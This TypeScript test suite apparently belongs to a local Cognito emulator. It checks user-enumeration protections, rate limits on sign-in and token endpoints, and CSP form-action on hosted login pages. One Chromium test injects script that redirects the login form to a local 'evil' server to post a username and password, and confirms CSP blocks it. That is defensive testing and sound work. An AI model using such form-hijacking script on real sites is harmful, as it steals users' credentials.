/**
 * Issue 9, weak items: PreventUserExistenceErrors as AWS has it, rate limits on sign-in, sign-up, the
 * token endpoint and the IAM operations, and `form-action` in the hosted pages' CSP (tried in Chromium).
 */
import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, describe, test } from "node:test";
import {
  ConfirmSignUpCommand,
  CreateUserPoolClientCommand,
  DescribeUserPoolClientCommand,
  InitiateAuthCommand,
  ListUsersCommand,
  ResendConfirmationCodeCommand,
  SignUpCommand,
} from "@aws-sdk/client-cognito-identity-provider";
import { browserSkip } from "@tollgate/testkit/browser";
import { LOCAL_CLIENT_ID, localSeed } from "@tollgate/testkit/stack";
import { chromium } from "playwright-core";
import {
  Agent,
  codeFlowParams,
  csrfOf,
  hostedSignIn,
  PASSWORD,
  rejectsWith,
  startTestPool,
  type TestPool,
} from "./harness.ts";

const POOL_ID = "us-east-1_Hardening1";
const LEGACY_CLIENT = "hardeninglegacy00000000000";
const ENABLED_CLIENT = "hardeningenabled0000000000";
const CALLBACK = "http://localhost:4321/callback";
const seed = {
  pools: [
    {
      id: POOL_ID,
      name: "hardening",
      clients: [
        { id: LEGACY_CLIENT, name: "legacy", callbackUrls: [CALLBACK] },
        {
          id: ENABLED_CLIENT,
          name: "enabled",
          preventUserExistenceErrors: "ENABLED",
          callbackUrls: [CALLBACK],
        },
      ],
      users: [{ username: "alice", password: PASSWORD, attributes: { email: "alice@example.com" } }],
    },
  ],
};

describe("PreventUserExistenceErrors", () => {
  let pool: TestPool;
  before(async () => {
    pool = await startTestPool({ seed });
  });
  after(() => pool.cleanup());

  test("LEGACY when CreateUserPoolClient omits it; ENABLED is kept", async () => {
    const { UserPoolClient } = await pool.cognito.send(
      new CreateUserPoolClientCommand({ UserPoolId: POOL_ID, ClientName: "api-made" }),
    );
    assert.equal(UserPoolClient?.PreventUserExistenceErrors, "LEGACY");
    const enabled = await pool.cognito.send(
      new DescribeUserPoolClientCommand({ UserPoolId: POOL_ID, ClientId: ENABLED_CLIENT }),
    );
    assert.equal(enabled.UserPoolClient?.PreventUserExistenceErrors, "ENABLED");
  });

  test("LEGACY reveals unknown users; ENABLED answers as for a real user", async () => {
    const signIn = (ClientId: string, USERNAME: string) =>
      pool.cognito.send(
        new InitiateAuthCommand({
          AuthFlow: "USER_PASSWORD_AUTH",
          ClientId,
          AuthParameters: { USERNAME, PASSWORD: "Wrong-Pass-1" },
        }),
      );
    await rejectsWith(signIn(LEGACY_CLIENT, "nobody"), "UserNotFoundException");
    await rejectsWith(
      signIn(ENABLED_CLIENT, "nobody"),
      "NotAuthorizedException",
      /^Incorrect username or password\.$/,
    );
    await rejectsWith(
      signIn(ENABLED_CLIENT, "alice"),
      "NotAuthorizedException",
      /^Incorrect username or password\.$/,
    );

    const confirm = (ClientId: string) =>
      pool.cognito.send(
        new ConfirmSignUpCommand({ ClientId, Username: "nobody", ConfirmationCode: "123456" }),
      );
    await rejectsWith(confirm(LEGACY_CLIENT), "UserNotFoundException");
    await rejectsWith(confirm(ENABLED_CLIENT), "CodeMismatchException");

    await rejectsWith(
      pool.cognito.send(
        new ResendConfirmationCodeCommand({ ClientId: LEGACY_CLIENT, Username: "nobody@example.com" }),
      ),
      "UserNotFoundException",
    );
    const resent = await pool.cognito.send(
      new ResendConfirmationCodeCommand({ ClientId: ENABLED_CLIENT, Username: "nobody@example.com" }),
    );
    assert.deepEqual(resent.CodeDeliveryDetails, {
      Destination: "n***@e***",
      DeliveryMedium: "EMAIL",
      AttributeName: "email",
    });
  });

  test("the local stack's client is seeded with ENABLED", async () => {
    const local = localSeed("http://localhost:3000");
    assert.equal(local.pools[0]?.clients[0]?.preventUserExistenceErrors, "ENABLED");
    const other = await startTestPool({ seed: local });
    try {
      const { UserPoolClient } = await other.cognito.send(
        new DescribeUserPoolClientCommand({
          UserPoolId: local.pools[0]?.id ?? "",
          ClientId: LOCAL_CLIENT_ID,
        }),
      );
      assert.equal(UserPoolClient?.PreventUserExistenceErrors, "ENABLED");
    } finally {
      await other.cleanup();
    }
  });
});

describe("rate limits", () => {
  let pool: TestPool;
  before(async () => {
    pool = await startTestPool({
      seed,
      config: { rateLimits: { signIn: 3, signUp: 2, token: 3, admin: 5 } },
    });
  });
  after(() => pool.cleanup());

  test("InitiateAuth: per IP and username, TooManyRequestsException (429) once spent", async () => {
    const signIn = (USERNAME: string) =>
      pool.cognito.send(
        new InitiateAuthCommand({
          AuthFlow: "USER_PASSWORD_AUTH",
          ClientId: LEGACY_CLIENT,
          AuthParameters: { USERNAME, PASSWORD },
        }),
      );
    for (let i = 0; i < 3; i++) assert.ok((await signIn("alice")).AuthenticationResult);
    await rejectsWith(signIn("alice"), "TooManyRequestsException");
    await rejectsWith(signIn("ALICE"), "TooManyRequestsException");
    // Another account from the same address has its own budget (wrong user, but not throttled).
    await rejectsWith(signIn("bob"), "UserNotFoundException");
    const raw = await fetch(`${pool.url}/`, {
      method: "POST",
      headers: {
        "content-type": "application/x-amz-json-1.1",
        "x-amz-target": "AWSCognitoIdentityProviderService.RespondToAuthChallenge",
      },
      body: JSON.stringify({
        ClientId: LEGACY_CLIENT,
        ChallengeName: "NEW_PASSWORD_REQUIRED",
        Session: "x",
        ChallengeResponses: { USERNAME: "alice", NEW_PASSWORD: "x" },
      }),
    });
    assert.equal(raw.status, 429);
    assert.equal(((await raw.json()) as { __type: string }).__type, "TooManyRequestsException");
    assert.ok(Number(raw.headers.get("retry-after")) > 0);
  });

  test("SignUp per IP", async () => {
    const signUp = (Username: string) =>
      pool.cognito.send(new SignUpCommand({ ClientId: LEGACY_CLIENT, Username, Password: PASSWORD }));
    await signUp("s1");
    await signUp("s2");
    await rejectsWith(signUp("s3"), "TooManyRequestsException");
    await rejectsWith(
      pool.cognito.send(
        new InitiateAuthCommand({
          AuthFlow: "USER_PASSWORD_AUTH",
          ClientId: LEGACY_CLIENT,
          AuthParameters: { USERNAME: "s3", PASSWORD },
        }),
      ),
      "UserNotFoundException",
    );
  });

  test("IAM operations per IP", async () => {
    for (let i = 0; i < 5; i++) await pool.cognito.send(new ListUsersCommand({ UserPoolId: POOL_ID }));
    await rejectsWith(
      pool.cognito.send(new ListUsersCommand({ UserPoolId: POOL_ID })),
      "TooManyRequestsException",
    );
  });

  test("/oauth2/token answers 429 {error: slow_down}", async () => {
    const post = () =>
      fetch(`${pool.url}/oauth2/token`, {
        method: "POST",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body: new URLSearchParams({
          grant_type: "refresh_token",
          client_id: ENABLED_CLIENT,
          refresh_token: "nope",
        }),
      });
    for (let i = 0; i < 3; i++) assert.equal((await post()).status, 400);
    const limited = await post();
    assert.equal(limited.status, 429);
    assert.equal(((await limited.json()) as { error: string }).error, "slow_down");
  });

  test("the hosted login form, per IP and username", async () => {
    const params = codeFlowParams(ENABLED_CLIENT, CALLBACK);
    for (let i = 0; i < 3; i++) {
      const res = await hostedSignIn(new Agent(pool.url), params, "carol", "Wrong-Pass-1");
      assert.equal(res.status, 400);
    }
    const limited = await hostedSignIn(new Agent(pool.url), params, "carol", "Wrong-Pass-1");
    assert.equal(limited.status, 429);
    assert.match(await limited.text(), /Too many sign-in attempts/);
  });
});

describe("hosted pages: CSP form-action", () => {
  let pool: TestPool;
  let evil: Server;
  let evilHits = 0;
  before(async () => {
    pool = await startTestPool({ seed });
    evil = createServer((_req, res) => {
      evilHits += 1;
      res.end("stolen");
    });
    await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
  });
  after(async () => {
    await new Promise((resolve) => evil.close(resolve));
    await pool.cleanup();
  });

  const params = () => ({
    client_id: LEGACY_CLIENT,
    response_type: "code",
    redirect_uri: CALLBACK,
    scope: "openid",
  });

  test("every page allows forms to post only to the pool and the app's exact redirect URI", async () => {
    const agent = new Agent(pool.url);
    const login = await agent.get(`/login?${new URLSearchParams(params())}`);
    const csp = login.headers.get("content-security-policy") ?? "";
    assert.match(csp, /form-action 'self' http:\/\/localhost:4321\/callback$/);
    // And the sign-in still ends at the app.
    const page = await login.text();
    const res = await agent.post(`/login?${new URLSearchParams(params())}`, {
      _csrf: csrfOf(page),
      username: "alice",
      password: PASSWORD,
    });
    assert.equal(res.status, 302);
    assert.ok(res.headers.get("location")?.startsWith(CALLBACK));
    const error = await fetch(`${pool.url}/error?error=invalid_client`);
    assert.match(error.headers.get("content-security-policy") ?? "", /form-action 'self'$/);
  });

  test("in Chromium, a form injected into the login page cannot post the password elsewhere", {
    skip: browserSkip,
  }, async () => {
    const browser = await chromium.launch({
      executablePath: process.env.CHROMIUM_PATH ?? "/usr/bin/chromium",
      args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
    });
    try {
      const page = await browser.newPage();
      const violations: string[] = [];
      page.on("console", (m) => violations.push(m.text()));
      await page.goto(`${pool.url}/login?${new URLSearchParams(params())}`);
      const evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}/steal`;
      await page.evaluate(`(() => {
        const form = document.querySelector("form");
        form.action = ${JSON.stringify(evilUrl)};
        document.querySelector("#username").value = "alice";
        document.querySelector("#password").value = "secret";
        form.submit();
      })()`);
      const deadline = Date.now() + 10_000;
      while (!violations.some((v) => /form-action/.test(v)) && Date.now() < deadline)
        await new Promise((r) => setTimeout(r, 50));
      assert.ok(
        violations.some((v) => /form-action/.test(v)),
        violations.join("\n"),
      );
      assert.equal(evilHits, 0);
      assert.ok(page.url().startsWith(pool.url));
    } finally {
      await browser.close();
    }
  });
});
